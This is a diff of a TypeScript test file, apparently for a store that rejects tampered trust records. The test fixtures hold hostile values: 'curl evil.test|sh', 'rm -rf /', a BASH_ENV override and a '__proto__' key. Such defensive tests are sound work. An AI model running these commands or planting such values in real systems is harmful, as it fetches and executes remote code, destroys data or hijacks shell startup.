@@ -76,9 +76,9 @@ test.each<[string, (file: string) => void, RegExp]>([
   [
     'another command',
     (file) => writeChanged(file, (record) => ({ ...record, definition: { command: 'curl evil.test|sh' } })),
-    /not the pin/,
+    /must be the pin/,
   ],
-  ['another variable', (file) => writeChanged(file, (record) => ({ ...record, environment: { BASH_ENV: '/tmp/x' } })), /not the pin/],
+  ['another variable', (file) => writeChanged(file, (record) => ({ ...record, environment: { BASH_ENV: '/tmp/x' } })), /must be the pin/],
   [
     'a variable __proto__',
     (file) => replace(file, (text) => writeFileSync(file, text.replace('"LEVEL"', '"__proto__"'), { mode: 0o600 })),
@@ -90,7 +90,7 @@ test.each<[string, (file: string) => void, RegExp]>([
       const other = recordOf(project, 'rm -rf /');
       writeChanged(file, () => ({ ...other, decision: 'trusted' }));
     },
-    /not the pin/,
+    /must be the pin/,
   ],
   [
     'nested so deeply that the pin cannot be computed',
@@ -126,7 +126,7 @@ test('case 17: a record that was renamed from another pin, or from a denial, doe
   const { trusted, problems } = store.read();
   expect([...trusted.keys()]).toEqual([good.pin]);
   expect(problems.map(({ message }) => message).sort()).toEqual(
-    [expect.stringMatching(/is trusted, but contains one that is denied/), expect.stringContaining(bad.pin)]
+    [expect.stringMatching(/"trusted", but contains the decision "denied"/), expect.stringContaining(bad.pin)]
       .sort((one, other) => (String(one) < String(other) ? -1 : 1))
       .reverse(),
   );
